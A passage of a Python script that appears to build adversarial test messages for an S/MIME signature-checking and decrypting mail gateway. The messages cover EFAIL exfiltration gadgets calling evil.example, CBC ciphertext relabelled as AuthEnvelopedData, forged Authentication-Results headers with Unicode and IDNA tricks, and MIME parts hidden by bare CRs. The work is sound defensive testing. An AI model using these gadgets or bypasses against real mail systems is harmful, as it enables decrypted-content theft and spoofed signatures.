            ('epi-header', NOTICE, 'Content-Type: text/html\n\n<b>evil</b>\n', 'permerror', '-', 'header field in the epilogue')]:
        n = 'c3-' + n
        add(n, message(n, clear_signed(TEXT, preamble=pre, epilogue=epi)), exp, comment=comment, cls=c, desc=desc)
    # A second multipart after the close delimiter, same boundary.
    b = boundary()
    second = '--%s\nContent-Type: text/html\n\n<b>Pay to the new account</b>\n--%s--\n' % (b, b)
    n = 'c3-epi-second-multipart'
    add(n, message(n, clear_signed(TEXT, b=b, epilogue=second)), 'permerror', cls=c,
        desc='a second full multipart after the close delimiter')


# --- 4. lost failures -------------------------------------------------------------

def class4():
    c = 4
    # Signed content without MIME headers.
    hello = b'Hello\r\n'
    der = cms_sign(hello, ALICE, detached=False)
    add('c4-noheaders-opaque', message('c4-noheaders-opaque', opaque_signed('', der=der)), 'pass', cls=c,
        desc='opaque signed eContent "Hello" without MIME headers')
    add('c4-noheaders-opaque-tampered', message('c4-noheaders-opaque-tampered',
                                                opaque_signed('', der=der.replace(b'Hello\r\n', b'Jello\r\n'))),
        'fail', cls=c, desc='names-signer: eContent without headers, one byte changed')
    sig = cms_sign(b'Hello', ALICE)  # the part is "Hello": its CRLF belongs to the delimiter
    b = boundary()
    body = '%s--%s\nHello\n--%s\n%s\n\n%s--%s--\n' % (NOTICE, b, b, '\n'.join(SIG_PART), b64(sig), b)
    ct = 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="%s"' % b
    add('c4-noheaders-clear', message('c4-noheaders-clear', Entity([ct], body)), 'pass', cls=c,
        desc='clear-signed first part "Hello" without MIME headers')
    add('c4-noheaders-clear-tampered', message('c4-noheaders-clear-tampered', Entity([ct], body.replace('\nHello\n', '\nJello\n'))),
        'fail', cls=c, desc='names-signer: clear-signed part without headers, changed')
    # Other than two parts.
    extra_part = lambda b: '--%s\nContent-Type: text/plain\n\nunsigned extra part\n' % b
    for n, k, desc in [('three-parts', 1, 'multipart/signed with 3 parts'),
                       ('thousands-parts', 1998, 'multipart/signed with 2000 parts')]:
        b = boundary()
        add('c4-' + n, message('c4-' + n, clear_signed(TEXT, b=b, extra_parts=extra_part(b) * k)), 'permerror',
            cls=c, desc=desc)
    b = boundary()
    e = clear_signed(TEXT, b=b)
    e.body = e.body.replace('--%s\n%s' % (b, TEXT), '--%s\n%s\n--%s\nContent-Type: text/html\n\n<b>unsigned</b>\n' % (b, TEXT.rstrip('\n'), b), 1)
    add('c4-three-parts-extra-first', message('c4-three-parts-extra-first', e), 'permerror', cls=c,
        desc='multipart/signed with 3 parts, extra one second')
    b = boundary()
    e = clear_signed(TEXT, b=b)
    e.body = e.body[:e.body.index('--%s\nContent-Type: application/pkcs7-signature' % b)] + '--%s--\n' % b
    add('c4-one-part', message('c4-one-part', e), 'permerror', cls=c, desc='multipart/signed with 1 part')
    b = boundary()
    e = clear_signed(TEXT.replace('4711', '4712'), b=b, signed_as=TEXT, extra_parts=extra_part(b))
    add('c4-three-parts-tampered', message('c4-three-parts-tampered', e), 'permerror', cls=c,
        desc='tampered, with 3 parts: still permerror, not neutral')

    # Tampered signatures deeper than max_mime_depth (32).
    tampered = clear_signed(TEXT.replace('4711', '4712'), signed_as=TEXT).text()
    inner = tampered
    for _ in range(40):  # each layer a valid signature over the one inside
        inner = clear_signed(inner).text()
    add('c4-deep-signed-40', message('c4-deep-signed-40', parse_entity(inner)), 'permerror', cls=c,
        desc='tampered signature under 40 good multipart/signed layers')
    inner = tampered
    for _ in range(40):
        inner = mixed(inner).text()
    # A signed part inside multipart/mixed is no signature of the message
    # (MIME wrapping): no result at any depth, so no limit changes it.
    add('c4-deep-mixed-40', message('c4-deep-mixed-40', parse_entity(inner)), 'none', cls=c,
        desc='tampered signature under 40 multipart/mixed layers')
    add('c4-mixed-1', message('c4-mixed-1', mixed(tampered)), 'none', cls=c,
        desc='tampered signature under one multipart/mixed layer: the same as 40')
    inner = TEXT
    for _ in range(5):
        inner = clear_signed(inner).text()
    add('c4-nested-good-5', message('c4-nested-good-5', parse_entity(inner)), 'pass', cls=c,
        desc='control: 5 good nested signatures')
    # The most severe layer wins.
    add('c4-good-over-tampered', message('c4-good-over-tampered', opaque_signed(tampered)), 'fail', cls=c,
        desc='names-signer: good opaque signature over a tampered clear-signed one')
    op = opaque_signed(TEXT).text()
    add('c4-tampered-over-good', message('c4-tampered-over-good', clear_signed(
        op.replace('Content-Disposition', 'Content-Description: x\nContent-Disposition'), signed_as=op)), 'fail', cls=c,
        desc='names-signer: tampered clear signature over a good opaque one')
    # A fail names the signer.
    add('c4-tampered-alice', message('c4-tampered-alice', clear_signed(TEXT.replace('4711', '4712'), signed_as=TEXT)),
        'fail', cls=c, desc='names-signer: clear-signed, body changed')
    add('c4-tampered-bob', message('c4-tampered-bob', clear_signed(TEXT.replace('4711', '4712'), BOB, signed_as=TEXT),
                                   frm='bob@example.com'), 'fail', cls=c, desc='names-signer: P-256, body changed')
    der = cms_sign(crlf(TEXT), CAROL, detached=False)
    add('c4-tampered-opaque', message('c4-tampered-opaque', opaque_signed('', der=der.replace(b'4711', b'4712')),
                                      frm='carol@example.com'), 'fail', cls=c,
        desc='names-signer: opaque, eContent changed')
    # Decrypted plaintext without headers becomes a text/plain body.
    der = cms_encrypt(b'Hello\r\n', cipher='-aes-256-gcm')
    add('c4-gcm-noheaders', message('c4-gcm-noheaders', enveloped(der, 'authEnveloped-data'), frm='sender@example.net'),
        'none', 'yes', cls=c, desc='GCM plaintext "Hello" without MIME headers')


# --- 5. CMS -----------------------------------------------------------------------

def class5():
    c = 5
    both = cms_sign(crlf(TEXT), ALICE, detached=False)
    add('c5-detached-with-econtent', message('c5-detached-with-econtent', clear_signed(TEXT, sig=both)), 'permerror',
        cls=c, desc='detached signature whose SignedData also carries the same eContent')
    other = cms_sign(crlf(TEXT.replace('4711', '9999')), ALICE, detached=False)
    # The signature does not match the displayed part: a plain failure (as
    # Thunderbird's mismatch-econtent samples expect), never a pass.
    add('c5-detached-with-other-econtent', message('c5-detached-with-other-econtent', clear_signed(TEXT, sig=other)),
        'fail', cls=c, desc='names-signer: detached signature whose SignedData carries other eContent')
    for n, oid in [('1-2-3-4', '1.2.3.4'), ('tstinfo', '1.2.840.113549.1.9.16.1.4')]:
        der = cms_sign(crlf(TEXT), ALICE, detached=False, opts=['-econtent_type', oid], check=False)
        add('c5-econtent-type-' + n, message('c5-econtent-type-' + n, opaque_signed('', der=der)), 'permerror',
            cls=c, desc='opaque eContentType %s' % oid)
        der = cms_sign(crlf(TEXT), ALICE, opts=['-econtent_type', oid], check=False)
        add('c5-detached-econtent-type-' + n, message('c5-detached-econtent-type-' + n, clear_signed(TEXT, sig=der)),
            'permerror', cls=c, desc='detached, content-type attribute %s' % oid)
    good = cms_sign(crlf(TEXT), ALICE)
    for n, tail in [('junk', b'JUNK'), ('zeros', b'\x00\x00'), ('second-der', good)]:
        add('c5-trailing-' + n, message('c5-trailing-' + n, clear_signed(TEXT, sig=good + tail)), 'permerror',
            cls=c, desc='bytes after the DER of a detached signature (%s)' % n)
    add('c5-opaque-trailing', message('c5-opaque-trailing', opaque_signed('', der=both + b'JUNK')), 'permerror',
        cls=c, desc='bytes after the DER of an opaque signature')
    add('c5-b64-after-padding', message('c5-b64-after-padding',
                                        clear_signed(TEXT, sig_b64=b64(good) + 'SlVOSw==\n')), 'permerror', cls=c,
        desc='base64 text after the padding of the signature')
    # Other CMS types where a signature goes.
    env = cms_encrypt(crlf(TEXT))
    add('c5-enveloped-as-signature', message('c5-enveloped-as-signature', clear_signed(TEXT, sig=env)), 'permerror',
        cls=c, desc='EnvelopedData as the detached signature')
    dig = ossl('cms', '-digest_create', '-binary', '-outform', 'DER', '-in', tmp(crlf(TEXT)))
    add('c5-digested-as-signature', message('c5-digested-as-signature', clear_signed(TEXT, sig=dig)), 'permerror',
        cls=c, desc='DigestedData as the detached signature')
    add('c5-digested-opaque', message('c5-digested-opaque', opaque_signed('', der=dig)), 'permerror', cls=c,
        desc='DigestedData as signed-data')
    enc = ossl('cms', '-EncryptedData_encrypt', '-binary', '-outform', 'DER', '-aes-128-cbc', '-secretkey',
               '000102030405060708090a0b0c0d0e0f', '-in', tmp(crlf(TEXT)))
    add('c5-encrypteddata-opaque', message('c5-encrypteddata-opaque', opaque_signed('', der=enc)), 'permerror',
        cls=c, desc='EncryptedData as signed-data')
    # Control: BER (indefinite lengths, -stream) is a valid encoding.
    ber = ossl('cms', '-sign', '-binary', '-stream', '-nodetach', '-outform', 'DER', '-in', tmp(crlf(TEXT)),
               '-signer', ALICE.crt, '-inkey', ALICE.key, '-certfile', ALICE.chain, '-md', 'sha256')
    add('c5-ok-ber-stream', message('c5-ok-ber-stream', opaque_signed('', der=ber)), 'pass', cls=c,
        desc='control: opaque signature in BER from openssl -stream')


# --- 6. weak crypto ---------------------------------------------------------------

def class6():
    c = 6
    for n, s, md, opts, exp, desc in [
            ('md5', ALICE, 'md5', [], 'policy', 'message digest MD5'),
            ('sha1', ALICE, 'sha1', [], 'policy', 'message digest SHA-1'),
            ('rsa1024', WEAKSIG, 'sha256', [], 'policy', 'RSA-1024 signer'),
            ('rsa1024-inter', extra('weakinter'), 'sha256', [], 'policy', 'RSA-1024 intermediate, RSA-2048 leaf'),
            ('dsa', extra('dsa'), 'sha256', [], 'policy', 'DSA-2048 signer'),
            ('p224', extra('p224'), 'sha256', [], 'policy', 'EC P-224 signer'),
            ('p192', extra('p192'), 'sha256', [], 'policy', 'EC P-192 signer'),
            ('secp256k1', extra('k256'), 'sha256', [], 'policy', 'EC secp256k1 signer (not in the allowed list)'),
            ('md5-cert', extra('md5cert'), 'sha256', [], 'policy', 'leaf certificate signed with MD5'),
            ('sha1-cert', extra('sha1cert'), 'sha256', [], 'policy', 'leaf certificate signed with SHA-1'),
            ('sha1-inter', extra('sha1inter'), 'sha256', [], 'policy', 'intermediate signed with SHA-1'),
            ('ok-p256', BOB, 'sha256', [], 'pass', 'control: P-256'),
            ('ok-p384', DAVE, 'sha384', [], 'pass', 'control: P-384'),
            ('ok-p521', extra('p521'), 'sha512', [], 'pass', 'control: P-521'),
            ('ok-brainpool', extra('bp256'), 'sha256', [], 'pass', 'control: brainpoolP256r1 (allowed by the rules)'),
            ('ok-pss', PSS, 'sha256', ['-keyopt', 'rsa_padding_mode:pss'], 'pass', 'control: RSA-PSS'),
            ('ok-sha512', ALICE, 'sha512', [], 'pass', 'control: SHA-512'),
            ('ok-sha384', CAROL, 'sha384', [], 'pass', 'control: SHA-384, RSA-3072')]:
        n = 'c6-' + n
        # openssl itself refuses some weak chains; the signature is still right.
        check = n not in ('c6-md5-cert',)
        der = cms_sign(crlf(TEXT), s, md, opts=opts, check=check)
        add(n, message(n, clear_signed(TEXT, s, md=md, sig=der), frm=s.addr), exp, cls=c, desc=desc)
    # Signing time against Date.
    add('c6-no-date', message('c6-no-date', good_signed(), date=None), 'pass', cls=c,
        desc='signingTime, no Date header')
    add('c6-bad-date', message('c6-bad-date', good_signed(), date='sometime last week'), 'pass', cls=c,
        desc='signingTime, Date that does not parse')
    add('c6-date-old', message('c6-date-old', good_signed(), date='Mon, 01 Jan 2024 00:00:00 +0000'), 'policy',
        cls=c, desc='signingTime far from Date (2024)')
    add('c6-date-future', message('c6-date-future', good_signed(), date='Fri, 01 Jan 2100 00:00:00 +0000'), 'policy',
        cls=c, desc='signingTime far from Date (2100)')
    add('c6-noattr-old-date', message('c6-noattr-old-date', clear_signed(TEXT, opts=['-noattr']),
                                      date='Mon, 01 Jan 2024 00:00:00 +0000'), 'pass', cls=c,
        desc='no signed attributes (no signingTime): only validity now')


# --- 7. EFAIL / decryption -----------------------------------------------------------

def class7():
    c = 7
    WITHHELD = 'no'
    signed = clear_signed(TEXT).text()
    opaque = opaque_signed(TEXT).text()
    snd = 'sender@example.net'
    for n, ent, frm, smime, dec, comment, desc in [
            ('cbc-plain', cbc(TEXT), snd, 'none', WITHHELD, '-', 'AES-256-CBC plaintext: withheld'),
            ('cbc128-plain', cbc(TEXT, cipher='-aes-128-cbc'), snd, 'none', WITHHELD, '-', 'AES-128-CBC plaintext'),
            ('3des-plain', cbc(TEXT, cipher='-des-ede3-cbc'), snd, 'none', WITHHELD, '-', '3DES-CBC plaintext'),
            ('cbc-signed', cbc(clear_signed(TEXT, preamble='').text()), 'alice@example.com', 'pass', 'yes', 'decrypted at gateway',
             'CBC holding a valid clear signature by the From'),
            ('cbc-opaque-signed', cbc(opaque), 'alice@example.com', 'pass', 'yes', 'decrypted at gateway',
             'CBC holding a valid opaque signature by the From'),
            ('cbc-signed-notice', cbc(signed), 'alice@example.com', 'pass', 'yes', 'decrypted at gateway',
             'CBC holding a valid signature whose preamble is the usual notice only'),
            ('cbc-signed-p256', cbc(clear_signed(TEXT, BOB, preamble='').text()), 'bob@example.com', 'pass', 'yes', '-',
             'CBC holding a valid P-256 signature by the From'),
            ('cbc-signed-epilogue', cbc(clear_signed(TEXT, epilogue='<img src="http://evil.example/?').text()),
             'alice@example.com', 'none', WITHHELD, '-', 'CBC holding a signature plus an unsigned epilogue'),
            ('cbc-signed-preamble', cbc(clear_signed(TEXT, preamble='<img src="http://evil.example/?\n').text()),
             'alice@example.com', 'none', WITHHELD, '-', 'CBC holding a signature plus an unsigned preamble'),
            ('cbc-tampered-signed', cbc(clear_signed(TEXT.replace('4711', '4712'), signed_as=TEXT).text()),
             'alice@example.com', 'none', WITHHELD, '-', 'CBC holding a tampered signature'),
            ('cbc-mixed-signed-part', cbc(mixed('Content-Type: text/html\n\n<img src="http://evil.example/?\n', signed).text()),
             'alice@example.com', 'none', WITHHELD, '-', 'CBC holding multipart/mixed: unsigned part beside a signed one'),
            ('gcm-plain', gcm(TEXT), snd, 'none', 'yes', '-', 'AES-256-GCM plaintext: authenticated, released'),
            ('gcm128-plain', enveloped(cms_encrypt(crlf(TEXT), cipher='-aes-128-gcm'), 'authEnveloped-data'), snd,
             'none', 'yes', '-', 'AES-128-GCM plaintext'),
            ('gcm-signed', gcm(signed), 'alice@example.com', 'pass', 'yes', 'decrypted at gateway',
             'GCM holding a valid signature'),
            ('gcm-signed-epilogue', gcm(clear_signed(TEXT, epilogue='P.S. new IBAN\n').text()), 'alice@example.com',
             'pass', 'yes', 'unsigned preamble or epilogue ignored', 'GCM holding a signature plus an epilogue'),
            ('gcm-two-recipients', gcm(TEXT, ('carol', 'bob')), snd, 'none', 'yes', '-', 'GCM to carol and bob'),
            ('x-pkcs7-gcm', enveloped(cms_encrypt(crlf(TEXT), cipher='-aes-256-gcm'),
                                      ct='application/x-pkcs7-mime; smime-type=authEnveloped-data; name="smime.p7m"'),
             snd, 'none', 'yes', '-', 'GCM as application/x-pkcs7-mime'),
            ('to-bob', cbc(TEXT, ('bob',)), snd, 'none', '-', '-', 'encrypted to bob only: not for carol, unchanged'),
            ('to-eve', cbc(TEXT, ('eve',)), snd, 'none', '-', '-', 'encrypted to eve only: unchanged'),
            ('to-bob-gcm', gcm(TEXT, ('bob',)), snd, 'none', '-', '-', 'GCM to bob only: unchanged')]:
        n = 'c7-' + n
        add(n, message(n, ent, frm=frm), smime, dec, comment, cls=c, desc=desc)

    # Damaged ciphertexts: every failure looks the same. The plaintext is a
    # multiple of 16 bytes, so the padding is a full block of 0x10: flipping
    # the low bit of the byte 17 from the end turns it into 0x11, never valid.
    pt = crlf('Content-Type: text/plain\n\n' + 'A' * (16 * 40 + 4))
    assert len(pt) % 16 == 0, len(pt)
    cbc_der = cms_encrypt(pt)
    gcm_der = cms_encrypt(pt, cipher='-aes-256-gcm')
    for n, der, t, desc in [
            ('cbc-bad-padding', flip(cbc_der, 17), 'enveloped-data', 'CBC, padding byte flipped'),
            ('cbc-bad-padding-high', flip(cbc_der, 17, 0x80), 'enveloped-data', 'CBC, padding byte high bit flipped'),
            ('gcm-wrong-tag', flip(gcm_der, 1), 'authEnveloped-data', 'GCM, tag changed'),
            ('gcm-changed-ciphertext', flip(gcm_der, 40), 'authEnveloped-data', 'GCM, ciphertext changed')]:
        add('c7-' + n, message('c7-' + n, enveloped(der, t), frm=snd), 'none', 'failed', cls=c, desc=desc)
    # CBC: a block changed in the middle decrypts (no padding error) to a
    # garbled plaintext: the EFAIL gadget; withheld, not failed.
    add('c7-cbc-changed-block', message('c7-cbc-changed-block', enveloped(flip(cbc_der, 16 * 10 + 3)), frm=snd),
        'none', WITHHELD, cls=c, desc='CBC, a middle ciphertext block changed (malleable): withheld')
    sig_der = cms_encrypt(crlf(signed))
    add('c7-cbc-signed-changed-block', message('c7-cbc-signed-changed-block', enveloped(flip(sig_der, 16 * 30 + 5)),
                                               frm='alice@example.com'),
        'none', WITHHELD, cls=c, desc='CBC holding a signature, a ciphertext block changed: signature breaks, withheld')

    # Encrypted entities we leave alone.
    enc = cbc(TEXT).text()
    for n, ent, smime, desc in [
            ('beside-plaintext', mixed('Content-Type: text/html\n\n<img src="http://evil.example/?\n', enc), 'none',
             'encrypted part beside a plaintext part'),
            ('beside-plaintext-gcm', mixed(gcm(TEXT).text(), 'Content-Type: text/plain\n\n">\n'), 'none',
             'GCM part beside a plaintext part'),
            ('under-two-opaque', opaque_signed(opaque_signed(enc).text()), 'pass',
             'enveloped data under an opaque signature under another'),
            ('under-clear-signed', clear_signed(enc), 'pass', 'enveloped data under a multipart/signed'),
            ('octet-stream', Entity(['Content-Type: application/octet-stream; name=smime.p7m',
                                     'Content-Transfer-Encoding: base64',
                                     'Content-Disposition: attachment; filename=smime.p7m'], cbc(TEXT).body), 'none',
             'application/octet-stream smime.p7m holding EnvelopedData')]:
        n = 'c7-' + n
        add(n, message(n, ent), smime, 'no', cls=c, desc=desc)
    # Forged X-SMIME-Decrypted on a withheld one: only ours.
    n = 'c7-cbc-forged-yes'
    add(n, message(n, cbc(TEXT), frm=snd, top=[FORGED_DEC]), 'none', WITHHELD, cls=c,
        desc='CBC with a forged X-SMIME-Decrypted: yes', hdr=True)


# --- 8. forged Authentication-Results spellings ----------------------------------------

def class8():
    c = 8
    R = '; smime=pass body.smime-identifier=ceo@example.com'
    spellings = [
        ('trailing-dot', 'Authentication-Results: mx.adversarial.test.' + R),
        ('trailing-dots', 'Authentication-Results: mx.adversarial.test..' + R),
        ('comment-inside', 'Authentication-Results: mx.adversarial(x).test' + R),
        ('comment-before', 'Authentication-Results: (forged) mx.adversarial.test' + R),
        ('folded-inside', 'Authentication-Results: mx.adversarial\n\t.test' + R),
        ('space-inside', 'Authentication-Results: mx.adversarial. test' + R),
        ('space-before-colon', 'Authentication-Results : mx.adversarial.test' + R),
        ('tab-before-colon', 'Authentication-Results\t: mx.adversarial.test' + R),
        ('lower-case', 'authentication-results: mx.adversarial.test' + R),
        ('upper-case', 'AUTHENTICATION-RESULTS: MX.ADVERSARIAL.TEST' + R),
        ('zwsp-inside', 'Authentication-Results: mx.adver\u200bsarial.test' + R),
        ('soft-hyphen', 'Authentication-Results: mx.adversa\u00adrial.test' + R),
        ('bom-before', 'Authentication-Results: \ufeffmx.adversarial.test' + R),
        ('zwj-after', 'Authentication-Results: mx.adversarial.test\u200d' + R),
        ('word-joiner', 'Authentication-Results: mx\u2060.adversarial.test' + R),
        ('rtl-override', 'Authentication-Results: \u202emx.adversarial.test\u202c' + R),
        ('hangul-filler', 'Authentication-Results: mx.adversarial.test\u3164' + R),
        ('quoted', 'Authentication-Results: "mx.adversarial.test"' + R),
        ('version', 'Authentication-Results: mx.adversarial.test 1' + R),
        ('no-space', 'Authentication-Results:mx.adversarial.test;smime=pass'),
    ]
    for n, field in spellings:
        for signed in [True, False]:
            name = 'c8-%s-%s' % (n, 'signed' if signed else 'unsigned')
            add(name, message(name, good_signed() if signed else UNSIGNED, top=[field]),
                'pass' if signed else 'none', cls=c, hdr=True, desc='forged A-R: ' + n)
    several = [f for _, f in spellings[:6]]
    for signed in [True, False]:
        name = 'c8-several-%s' % ('signed' if signed else 'unsigned')
        add(name, message(name, good_signed() if signed else UNSIGNED, top=several[:3],
                          extra=several[3:] + ['X-Foo: a\r' + FORGED_AR]),
            'pass' if signed else 'none', cls=c, hdr=True, desc='six forged A-R spellings at once, above and below')
    # Control: another authserv-id that merely starts like ours stays, and is not ours.
    name = 'c8-other-id-kept'
    add(name, message(name, good_signed(), top=['Authentication-Results: mx.adversarial.test.evil.example; smime=pass']),
        'pass', cls=c, hdr=True, desc='control: A-R of mx.adversarial.test.evil.example is not ours')


# --- found in review: each a bypass of an earlier version -------------------------

def der_children(d):
    """The (tag, whole element) children of a DER content (definite lengths)."""
    out, i = [], 0
    while i < len(d):
        tag, n = d[i], d[i + 1]
        start = i + 2
        if n & 0x80:
            k = n & 0x7f
            n = int.from_bytes(d[start:start + k], 'big')
            start += k
        out.append((tag, d[i:start + n], d[start:start + n]))
        i = start + n
    return out


def der(tag, content):
    n = len(content)
    if n < 128:
        length = bytes([n])
    else:
        b = n.to_bytes((n.bit_length() + 7) // 8, 'big')
        length = bytes([0x80 | len(b)]) + b
    return bytes([tag]) + length + content


def cbc_as_auth_enveloped(inner, mac):
    """CBC EnvelopedData relabelled AuthEnvelopedData (RFC 5083) with a
    made-up mac: OpenSSL 3.0 decrypts it and ignores the mac."""
    env = cms_encrypt(crlf(inner), ('carol',), '-aes-256-cbc')
    _, ctx = [c[2] for c in der_children(der_children(env)[0][2])]
    fields = der_children(der_children(ctx)[0][2])
    ris, eci = fields[1][1], fields[2][1]
    oid = der(0x06, bytes.fromhex('2a864886f70d0109100117'))
    aed = der(0x30, der(0x02, b'\x00') + ris + eci + der(0x04, mac))
    return der(0x30, oid + der(0xa0, aed))


def review():
    html = 'Content-Type: text/html; charset=us-ascii\n\n<img src="http://evil.example/?">\n'
    for n, mac in [('empty', b''), ('zeros', b'\x00' * 16)]:
        name = 'c7-cbc-as-authenveloped-' + n
        add(name, message(name, enveloped(cbc_as_auth_enveloped(html, mac), 'authEnveloped-data'),
                          frm='sender@example.net'),
            'none', 'failed', cls=7, desc='CBC labelled AuthEnvelopedData, mac %s: no AEAD, no plaintext' % n)
    # `ceo@bank.example` in EBCDIC cp037, where `@` is 0x7C: no reader's
    # charset may hide an address from us.
    ebcdic = ''.join('=%02X' % b for b in 'ceo@bank.example'.encode('cp037'))
    for n, frm, why in [
            ('ebcdic-display', '=?cp037?q?%s?= <alice@example.com>' % ebcdic, 'From shows another address'),
            ('circled-a-display', '"ceo\u24d0bank.example" <alice@example.com>', 'From shows another address'),
            ('trailing-dot', 'alice@example.com.', 'ambiguous From')]:
        name = 'c2-' + n
        add(name, message(name, good_signed(), frm=frm), 'policy', comment=why, cls=2, desc=frm)
    # The decrypted header becomes the message's: it must read one way too.
    signed = good_signed().text()
    body = signed.partition('\n\n')[2]
    ct = signed.partition('\n\n')[0]
    for n, head in [('dup-ct', ct + '\nContent-Type: text/html'),
                    ('comment-ct', ct.replace('multipart/signed;', 'multipart/signed (x);'))]:
        name = 'c3-plaintext-' + n
        add(name, message(name, gcm(head + '\n\n' + body), frm='alice@example.com'), 'none', 'failed',
            cls=3, desc='decrypted header that reads two ways: %s' % n)
    # CBC released for its inner signature: only what the signature covers
    # (and Content-Type, Content-Transfer-Encoding) reaches the reader.
    name = 'c7-cbc-signed-extra-content-fields'
    add(name, message(name, cbc(ct + '\nContent-Description: <b>pay now</b>\n\n' + body)),
        'pass', 'yes', 'decrypted at gateway', cls=7,
        desc='no-content-description: CBC, signed inside, an unsigned Content-Description beside it')
    # A boundary with trailing white space: Python strips it and finds a
    # third part where we found two.
    b = 'BND '
    name = 'c4-boundary-trailing-space'
    entity = clear_signed(TEXT, b=b, sig_headers=SIG_PART + ['X-Note: x', '--BND',
                          'New bank details - Alice', '--BND--'])
    add(name, message(name, entity), 'permerror', cls=4, desc='boundary "BND " (RFC 2046: no trailing space)')
    # A part hidden behind bare CRs in the signature part's header.
    name = 'c4-signature-header-bare-cr'
    b = boundary()
    entity = clear_signed(TEXT, b=b, sig_headers=SIG_PART + [
        'X-A: x\r--%s\rContent-Type: text/html\r\r<h1>pay to DE00</h1>\r--%s--' % (b, b)])
    add(name, message(name, entity), 'permerror', cls=4, desc='bare CRs in the signature part header hide a part')


def review2():
    """Header protection read as a lax reader reads it, and forged ids that
    IDNA maps to ours (found in a second review)."""
    c = 2
    protected = 'From: alice@example.com\nTo: carol@example.com\nSubject: wire money\n\nPay now.\n'
    hp_text = lambda ct: 'Content-Type: %s\n%s' % (ct, protected)
    for n, inner in [
            ('hp-mbox-from', 'From dave Mon Jan  1 00:00:00 2024\n' + hp_text('text/plain; hp="clear"')),
            ('rfc822-mbox-from', 'Content-Type: message/rfc822\n\nFrom eve Mon Jan  1 00:00:00 2024\n' + protected),
            ('hp-2231-ext', hp_text("text/plain; hp*=us-ascii''clear")),
            ('hp-2231-cont', hp_text('text/plain; hp*0="cl"; hp*1="ear"')),
            ('protected-headers-v1', hp_text('text/plain; protected-headers="v1"')),
            ('hp-bare-cr', hp_text('text/plain; hp="clear"').replace(
                'From: alice@example.com\n', 'Subject: x\rFrom: alice@example.com\n')),
            ('rfc822-base64', 'Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n'
             + base64.encodebytes(crlf(protected)).decode())]:
        name = 'c2-' + n
        add(name, message(name, clear_signed(inner, s=DAVE), frm='dave@example.net'), 'policy', cls=c,
            desc='inner From alice under a signature of dave: ' + n)
    # A GCM-encrypted application/octet-stream `.p7m` is left alone and
    # reported, as a CBC one is: only S/MIME-labelled bodies are decrypted.
    name = 'c7-octet-stream-gcm'
    add(name, message(name, Entity(['Content-Type: application/octet-stream; name=smime.p7m',
                                    'Content-Transfer-Encoding: base64',
                                    'Content-Disposition: attachment; filename=smime.p7m'], gcm(TEXT).body)),
        'none', 'no', cls=7, desc='application/octet-stream smime.p7m holding AuthEnvelopedData')
    c = 8
    for n, ident in [('fullwidth', '\uff4d\uff58.adversarial.test'),
                     ('ideographic-dot', 'mx\u3002adversarial\u3002test'),
                     ('fullwidth-dot', 'mx.adversarial.test\uff0e'),
                     ('long-s', 'mx.adver\u017Farial.te\u017Ft')]:
        field = 'Authentication-Results: %s; smime=pass body.smime-identifier=ceo@example.com' % ident
        for signed in [True, False]:
            name = 'c8-idna-%s-%s' % (n, 'signed' if signed else 'unsigned')
            add(name, message(name, good_signed() if signed else UNSIGNED, top=[field]),
                'pass' if signed else 'none', cls=c, hdr=True, desc='forged A-R, id IDNA maps to ours: ' + n)


for f in (class1, class2, class3, class4, class5, class6, class7, class8, review, review2):
    f()
with open(os.path.join(OUT, 'MANIFEST.tsv'), 'w') as f:
    for m in manifest:
        f.write('\t'.join(m) + '\n')
subprocess.run(['rm', '-rf', WORK])
